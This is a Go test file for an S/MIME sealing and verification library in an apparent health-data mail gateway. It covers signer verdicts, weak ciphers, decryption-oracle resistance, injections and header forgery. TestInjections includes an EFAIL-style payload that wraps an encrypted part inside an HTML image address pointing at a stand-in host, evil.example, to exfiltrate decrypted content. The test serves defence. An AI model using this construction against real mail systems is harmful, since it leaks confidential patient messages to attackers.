package smime_test

import (
	"bytes"
	"context"
	"crypto"
	"crypto/x509"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/passerelle-sante/passerelle/smime"
	"github.com/passerelle-sante/passerelle/wire/cms"
)

func TestSealAndOpen(t *testing.T) {
	p := get(t)
	labo, second := p.signer("labo"), p.signer("second")
	second.Digest = crypto.SHA384
	both := []cms.Recipient{p.to("elsewhere"), p.to("gateway")}
	for _, c := range []struct {
		name  string
		o     smime.SealOptions
		shape string
	}{
		{"signed detached", smime.SealOptions{Signers: []cms.Signer{labo}}, "signed(detached,1)"},
		{"signed opaque", smime.SealOptions{Signers: []cms.Signer{labo}, Opaque: true}, "signed(opaque,1)"},
		{"two signers", smime.SealOptions{Signers: []cms.Signer{labo, second}}, "signed(detached,2)"},
		{"signed, encrypted", smime.SealOptions{Signers: []cms.Signer{labo}, Recipients: both}, "encrypted(AES-256-GCM) signed(detached,1)"},
		{"signed opaque, encrypted", smime.SealOptions{Signers: []cms.Signer{labo}, Opaque: true, Recipients: both}, "encrypted(AES-256-GCM) signed(opaque,1)"},
		{"for an elliptic curve", smime.SealOptions{Signers: []cms.Signer{labo}, Recipients: []cms.Recipient{p.to("gateway-ec")}}, "encrypted(AES-256-GCM) signed(detached,1)"},
		{"CBC", smime.SealOptions{Signers: []cms.Signer{labo}, Recipients: both, Cipher: "AES-256-CBC"}, "encrypted(AES-256-CBC) signed(detached,1)"},
		{"triple wrapping", smime.SealOptions{Signers: []cms.Signer{labo}, Recipients: both, Triple: true}, "signed(detached,1) encrypted(AES-256-GCM) signed(detached,1)"},
		{"triple wrapping, opaque", smime.SealOptions{Signers: []cms.Signer{labo}, Recipients: both, Triple: true, Opaque: true}, "signed(opaque,1) encrypted(AES-256-GCM) signed(opaque,1)"},
		{"compressed", smime.SealOptions{Signers: []cms.Signer{labo}, Recipients: both, Compress: true}, "encrypted(AES-256-GCM) signed(detached,1) compressed"},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.o.Time = time.Now()
			raw := mail(seal(t, entity, c.o))
			before := bytes.Clone(raw)
			m := open(t, raw, p.options())
			if !bytes.Equal(raw, before) {
				t.Error("the message was written to")
			}
			if shape(m) != c.shape {
				t.Errorf("layers %s, want %s", shape(m), c.shape)
			}
			if !bytes.Equal(m.Entity, entity) {
				t.Errorf("entity %q", m.Entity)
			}
			if v := m.Verdict(); !v.OK() {
				t.Errorf("verdict: %s", v)
			}
			if m.IsEncrypted() != (len(c.o.Recipients) > 0) || m.Header.Get("Subject") != "XDM/1.0/DDM+CR" {
				t.Errorf("encrypted %v, subject %q", m.IsEncrypted(), m.Header.Get("Subject"))
			}
			parts, err := m.Parts()
			if err != nil || len(parts) != 2 || parts[0].Media != "text/plain" || parts[1].Name != "IHE_XDM.ZIP" || parts[1].Path != "2" {
				t.Errorf("parts %v, %v", parts, err)
			}
		})
	}
}

// TestSealRefuses: what cannot be sealed as asked is not sealed otherwise.
func TestSealRefuses(t *testing.T) {
	p := get(t)
	labo := []cms.Signer{p.signer("labo")}
	binary := []byte("Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\né\r\n")
	for _, c := range []struct {
		want   string
		entity []byte
		o      smime.SealOptions
	}{
		{"nobody signs", entity, smime.SealOptions{}},
		{"nobody signs", entity, smime.SealOptions{Recipients: []cms.Recipient{p.to("gateway")}, Triple: true}},
		{"cannot be signed in the open", binary, smime.SealOptions{Signers: labo}},
		{"not for encryption", entity, smime.SealOptions{Signers: labo, Recipients: []cms.Recipient{p.to("sign-only")}}},
		{"key of 1024 bits is too weak", entity, smime.SealOptions{Signers: labo, Recipients: []cms.Recipient{p.to("weak")}}},
		{"unsupported content encryption \"DES-EDE3-CBC\"", entity, smime.SealOptions{Recipients: []cms.Recipient{p.to("gateway")}, Cipher: "DES-EDE3-CBC"}},
		{"more than one Content-Type", append([]byte("Content-Type: text/html\r\n"), entity...), smime.SealOptions{Signers: labo}},
	} {
		if _, err := smime.Seal(c.entity, c.o); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%v, want %s", err, c.want)
		}
	}
}

// TestVerdicts: each thing that can be said against a signer, and nothing else with it.
func TestVerdicts(t *testing.T) {
	p := get(t)
	now := time.Now()
	expiredAt := p.ids["expired"].Certificate.NotAfter
	for _, c := range []struct {
		name, who string
		time      time.Time
		edit      func(*smime.Options)
		change    func([]byte) []byte
		want      smime.Verdict
	}{
		{name: "good", who: "labo"},
		{name: "unknown authority", who: "stranger", want: smime.Verdict{smime.UnknownAuthority}},
		{name: "no trust at all", who: "labo", edit: func(o *smime.Options) { o.Trust = nil }, want: smime.Verdict{smime.UnknownAuthority}},
		{name: "intermediate missing", who: "labo", edit: func(o *smime.Options) { o.Trust.Intermediates = nil }, want: smime.Verdict{smime.UnknownAuthority}},
		{name: "expired since", who: "expired", time: expiredAt.Add(-time.Minute), want: smime.Verdict{smime.ExpiredAtReceipt}},
		{name: "expired when signed", who: "expired", time: now, want: smime.Verdict{smime.ExpiredAtSigning}},
		{name: "not yet valid", who: "early", want: smime.Verdict{smime.NotYetValid}},
		{name: "signed in the future", who: "labo", time: now.Add(72 * time.Hour), want: smime.Verdict{smime.SignedInTheFuture}},
		{name: "for servers", who: "tls", want: smime.Verdict{smime.KeyUsage}},
		{name: "for servers, tolerated", who: "tls", edit: func(o *smime.Options) { o.Trust.Usage = smime.UsageAny }},
		{name: "key for agreement", who: "usage", want: smime.Verdict{smime.KeyUsage}},
		{name: "weak key", who: "weak", want: smime.Verdict{smime.WeakAlgorithm}},
		{name: "another address", who: "elsewhere", want: smime.Verdict{smime.AddressDiffers}},
		{name: "another address, not looked at", who: "elsewhere", edit: func(o *smime.Options) { o.AnySender = true }},
		{name: "no address", who: "card", want: smime.Verdict{smime.AddressDiffers}},
		{name: "no address, in the directory", who: "card", edit: func(o *smime.Options) { o.Trust.Directory = list{"resultats@labo.example": "card"} }},
		{name: "not in the directory", who: "labo", edit: func(o *smime.Options) { o.Trust.Directory = list{"x@labo.example": "labo"} }, want: smime.Verdict{smime.NotInDirectory}},
		{name: "directory unreachable", who: "labo", edit: func(o *smime.Options) { o.Trust.Directory = list{"": ""} }, want: smime.Verdict{smime.DirectoryUnknown}},
		{name: "revocation not checked", who: "labo", edit: func(o *smime.Options) { o.Trust.Unknown = smime.UnknownRefuse }, want: smime.Verdict{smime.RevocationUnknown}},
		{name: "altered", who: "labo", change: func(b []byte) []byte { return bytes.Replace(b, []byte("Bonjour"), []byte("Bonsoir"), 1) }, want: smime.Verdict{smime.Altered}},
		{name: "two addresses in From", who: "labo", change: func(b []byte) []byte {
			return bytes.Replace(b, []byte("<resultats@labo.example>"), []byte("<resultats@labo.example>, chef@labo.example"), 1)
		}, want: smime.Verdict{smime.AddressDiffers}},
		{name: "From in another charset", who: "labo", change: func(b []byte) []byte {
			return bytes.Replace(b, []byte("Laboratoire <"), []byte("=?windows-1252?Q?Laboratoire_d=E9p=F4t?= <"), 1)
		}},
		{name: "no From", who: "labo", change: func(b []byte) []byte { return b[bytes.Index(b, []byte("To:")):] }, want: smime.Verdict{smime.AddressDiffers}},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.time.IsZero() {
				c.time = now
				if c.name == "not yet valid" {
					c.time = time.Time{}
				}
			}
			raw := mail(seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer(c.who)}, Time: c.time}))
			if c.change != nil {
				raw = c.change(raw)
			}
			o := p.options()
			if c.edit != nil {
				c.edit(&o)
			}
			if got := open(t, raw, o).Verdict(); got.String() != c.want.String() {
				t.Errorf("%s, want %s", got, c.want)
			}
		})
	}
}

// list is a directory in a map; with the address "" it is unreachable.
type list map[string]string

func (l list) Lists(_ context.Context, address string, cert *x509.Certificate) (bool, error) {
	if _, broken := l[""]; broken {
		return false, errors.New("the directory does not answer")
	}
	name, ok := l[address]
	return ok && cert.Subject.CommonName == "Titulaire "+name, nil
}

func TestWeakAlgorithms(t *testing.T) {
	p := get(t)
	sha1 := p.signer("labo")
	sha1.Digest = crypto.SHA1
	v15 := p.signer("labo")
	v15.Padding = cms.PKCS1v15
	strict, all := cms.Policy(0), cms.DefaultPolicy|cms.AllowSHA1
	for _, c := range []struct {
		name   string
		signer cms.Signer
		policy *cms.Policy
		want   string
	}{
		{"SHA-1", sha1, nil, "weak algorithm"},
		{"SHA-1 by policy", sha1, &all, "ok"},
		{"PKCS #1 v1.5", v15, nil, "ok"},
		{"PKCS #1 v1.5 refused", v15, &strict, "weak algorithm"},
	} {
		o := p.options()
		o.Policy = c.policy
		raw := mail(seal(t, entity, smime.SealOptions{Signers: []cms.Signer{c.signer}, Opaque: true}))
		if got := open(t, raw, o).Verdict().String(); got != c.want {
			t.Errorf("%s: %s, want %s", c.name, got, c.want)
		}
	}
	o := p.options()
	o.Policy = &strict
	to := p.to("gateway")
	to.Transport = cms.RSAPKCS1v15
	raw := mail(seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}, Recipients: []cms.Recipient{to}}))
	if _, err := smime.Open(context.Background(), raw, o); !errors.Is(err, cms.ErrRefused) {
		t.Errorf("key transport with PKCS #1 v1.5: %v", err)
	}
}

// TestDecryptionFailures: whatever a key would tell about a message, the answer is the same.
func TestDecryptionFailures(t *testing.T) {
	p := get(t)
	gateway := []cms.Recipient{p.to("gateway")}
	v15 := []cms.Recipient{{Certificate: p.ids["gateway"].Certificate, Transport: cms.RSAPKCS1v15}}
	signed := seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}})
	gcm := func(b []byte, to []cms.Recipient) []byte { return encrypt(t, b, "AES-256-GCM", to) }
	cbc := func(b []byte, to []cms.Recipient) []byte { return encrypt(t, b, "AES-256-CBC", to) }
	for name, der := range map[string][]byte{
		"GCM content altered":          flip(gcm(signed, gateway), -100),
		"GCM tag altered":              flip(gcm(signed, gateway), -1),
		"GCM key altered, OAEP":        flip(gcm(signed, gateway), 300),
		"GCM key altered, v1.5":        flip(gcm(signed, v15), 300),
		"CBC content altered":          flip(cbc(signed, gateway), -100),
		"CBC padding altered":          flip(cbc(signed, gateway), -17),
		"CBC key altered":              flip(cbc(signed, v15), 300),
		"CBC, not signed":              cbc(entity, gateway),
		"CBC, no MIME inside":          cbc([]byte("\x00\xff"), gateway),
		"CBC, header without an end":   cbc(bytes.Repeat([]byte("a"), 200<<10), gateway),
		"CBC, altered signature":       cbc(bytes.Replace(signed, []byte("Bonjour"), []byte("Bonsoir"), 1), gateway),
		"CBC, signed by nobody known":  cbc(seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("weak")}}), gateway),
		"CBC, GCM for others inside":   cbc(wrapped(gcm(signed, []cms.Recipient{p.to("elsewhere")})), gateway),
		"CBC, damaged message inside":  cbc(wrapped([]byte{0x30, 0x80}), gateway),
		"CBC in CBC, not signed":       cbc(wrapped(cbc(entity, gateway)), gateway),
		"CBC, multipart/signed of one": cbc([]byte("Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x\r\n\r\n--x--\r\n"), gateway),
	} {
		_, err := smime.Open(context.Background(), mail(wrapped(der)), p.options())
		if err != smime.ErrDecrypt {
			t.Errorf("%s: %v", name, err)
		}
	}
	others := mail(wrapped(gcm(signed, []cms.Recipient{p.to("elsewhere")})))
	if _, err := smime.Open(context.Background(), others, p.options()); err != smime.ErrNotRecipient {
		t.Errorf("for somebody else: %v", err)
	}
}

// TestCBCPolicy: who may answer for content in a cipher without integrity.
func TestCBCPolicy(t *testing.T) {
	p := get(t)
	gateway := []cms.Recipient{p.to("gateway")}
	plain := wrapped(encrypt(t, entity, "AES-128-CBC", gateway))
	around := seal(t, plain, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}, Opaque: true})
	byStranger := seal(t, plain, smime.SealOptions{Signers: []cms.Signer{p.signer("stranger")}, Opaque: true})
	inside := seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}, Recipients: gateway, Cipher: "AES-128-CBC"})
	for _, c := range []struct {
		name string
		raw  []byte
		want map[smime.CBC]bool
	}{
		{"not signed", plain, map[smime.CBC]bool{smime.CBCAny: true}},
		{"signed around", around, map[smime.CBC]bool{smime.CBCAny: true, smime.CBCSignedAround: true}},
		{"signed around by a stranger", byStranger, map[smime.CBC]bool{smime.CBCAny: true}},
		{"signed inside", inside, map[smime.CBC]bool{smime.CBCAny: true, smime.CBCSignedAround: true, smime.CBCSigned: true}},
	} {
		for _, policy := range []smime.CBC{smime.CBCSigned, smime.CBCSignedAround, smime.CBCAny} {
			o := p.options()
			o.CBC = policy
			m, err := smime.Open(context.Background(), mail(c.raw), o)
			if got := err == nil; got != c.want[policy] {
				t.Errorf("%s with policy %d: %v", c.name, policy, err)
			}
			if err == nil && !bytes.Equal(m.Entity, entity) {
				t.Errorf("%s: entity %q", c.name, m.Entity)
			}
		}
	}
}

func encrypt(t testing.TB, b []byte, cipher string, to []cms.Recipient) []byte {
	t.Helper()
	der, err := cms.Encrypt(b, cms.EncryptOptions{Recipients: to, Cipher: cipher})
	if err != nil {
		t.Fatal(err)
	}
	return der
}

// wrapped is an entity that holds a message in binary.
func wrapped(der []byte) []byte {
	return append([]byte("Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: binary\r\n\r\n"), der...)
}

// flip alters one octet, counted from the end where at is negative.
func flip(b []byte, at int) []byte {
	b = bytes.Clone(b)
	if at < 0 {
		at += len(b)
	}
	b[at] ^= 0x40
	return b
}

// TestInjections: what somebody puts beside a protected part is not taken, and never decrypted with it.
func TestInjections(t *testing.T) {
	p := get(t)
	sealed := seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}, Recipients: []cms.Recipient{p.to("gateway")}})
	signed := string(seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}}))
	boundary := signed[strings.Index(signed, "boundary=\"")+10:]
	boundary = boundary[:strings.IndexByte(boundary, '"')]

	// Direct exfiltration: the encrypted part between two halves of an image address.
	around := "Content-Type: multipart/mixed; boundary=efail\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--efail\r\n" +
		string(sealed) + "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n"
	m := open(t, mail([]byte(around)), p.options())
	if len(m.Layers) != 0 || !m.Verdict().Has(smime.NotSigned) || bytes.Contains(m.Entity, []byte("Bonjour")) {
		t.Errorf("a part between others was opened: %s", shape(m))
	}

	evil := "--" + boundary + "\r\nContent-Type: text/plain\r\n\r\nevil\r\n"
	first := strings.Index(signed, "--"+boundary)
	for name, c := range map[string]struct{ raw, err string }{
		"before the first boundary": {signed[:first] + "evil\r\n" + signed[first:], ""},
		"after the last boundary":   {signed + "evil\r\n" + evil, ""},
		"a part before":             {signed[:first] + evil + signed[first:], "more than 2 parts"},
		"a part after":              {signed[:len(signed)-len("--\r\n")] + "\r\nevil\r\n--" + boundary + "--\r\n", "more than 2 parts"},
		"only one part":             {signed[:strings.LastIndex(signed[:len(signed)-60], "--"+boundary)] + "--" + boundary + "--\r\n", "multipart/signed of 1 parts"},
		"boundary without its end":  {signed[:len(signed)-4], "without its end"},
		"two Content-Types":         {"Content-Type: text/plain\r\n" + signed, "more than one Content-Type"},
	} {
		m, err := smime.Open(context.Background(), mail([]byte(c.raw)), p.options())
		if c.err != "" {
			if err == nil || !strings.Contains(err.Error(), c.err) {
				t.Errorf("%s: %v, want %s", name, err, c.err)
			}
			continue
		}
		if err != nil || !bytes.Equal(m.Entity, entity) || !m.Verdict().OK() {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestSignedForAnotherPurpose: what a signer signed for another protocol (a time stamp, say) is no mail of his.
func TestSignedForAnotherPurpose(t *testing.T) {
	p := get(t)
	der, err := cms.Sign(entity, cms.SignOptions{Signers: []cms.Signer{p.signer("labo")}})
	if err != nil {
		t.Fatal(err)
	}
	data := []byte("\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01")
	der = bytes.Replace(der, data, append(bytes.Clone(data[:8]), 5), 1)
	_, err = smime.Open(context.Background(), mail(wrapped(der)), p.options())
	if !errors.Is(err, smime.ErrMalformed) || !strings.Contains(err.Error(), "without mail in it") {
		t.Error(err)
	}
}

// TestHeaderProtection: the message inside says who sends, and what the transport shows must agree.
func TestHeaderProtection(t *testing.T) {
	p := get(t)
	inner := []byte("From: resultats@labo.example\r\nSubject: CR de Mme X\r\nContent-Type: text/plain\r\n\r\nBonjour\r\n")
	o := smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}, Recipients: []cms.Recipient{p.to("gateway")}}
	m := open(t, mail(seal(t, smime.Protect(inner), o)), p.options())
	if m.Protected.Get("Subject") != "CR de Mme X" || m.Header.Get("Subject") != "XDM/1.0/DDM+CR" || !bytes.Equal(m.Entity, inner) || !m.Verdict().OK() {
		t.Errorf("protected %q, entity %q, verdict %s", m.Protected.Get("Subject"), m.Entity, m.Verdict())
	}
	// The signer's own address inside does not help who sends it on under another.
	forged := bytes.Replace(mail(seal(t, smime.Protect(inner), o)), []byte("resultats@"), []byte("directeur@"), 1)
	if v := open(t, forged, p.options()).Verdict(); v.String() != "address differs from From" {
		t.Errorf("outer From differs: %s", v)
	}
	forwarded := bytes.Replace(inner, []byte("resultats@"), []byte("directeur@"), 1)
	if v := open(t, mail(seal(t, smime.Protect(forwarded), o)), p.options()).Verdict(); v.String() != "address differs from From" {
		t.Errorf("inner From differs: %s", v)
	}
	// The header repeated on the content itself.
	m = open(t, mail(seal(t, inner, o)), p.options())
	if m.Protected.Get("Subject") != "CR de Mme X" || !m.Verdict().OK() {
		t.Errorf("protected %q, verdict %s", m.Protected.Get("Subject"), m.Verdict())
	}
}

// TestLineEnds: a message kept with the line ends of a system verifies as it was signed, and what comes out is what was signed.
func TestLineEnds(t *testing.T) {
	p := get(t)
	raw := mail(seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}}))
	m := open(t, bytes.ReplaceAll(raw, []byte("\r\n"), []byte("\n")), p.options())
	if !bytes.Equal(m.Entity, entity) || !m.Verdict().OK() {
		t.Errorf("%s %q", m.Verdict(), m.Entity)
	}
}

func TestByName(t *testing.T) {
	p := get(t)
	raw := seal(t, entity, smime.SealOptions{Signers: []cms.Signer{p.signer("labo")}, Opaque: true})
	raw = bytes.Replace(raw, []byte("application/pkcs7-mime; smime-type=signed-data"), []byte("application/octet-stream"), 1)
	if m := open(t, mail(raw), p.options()); shape(m) != "signed(opaque,1)" || !m.Verdict().OK() {
		t.Errorf("%s: %s", shape(m), m.Verdict())
	}
}
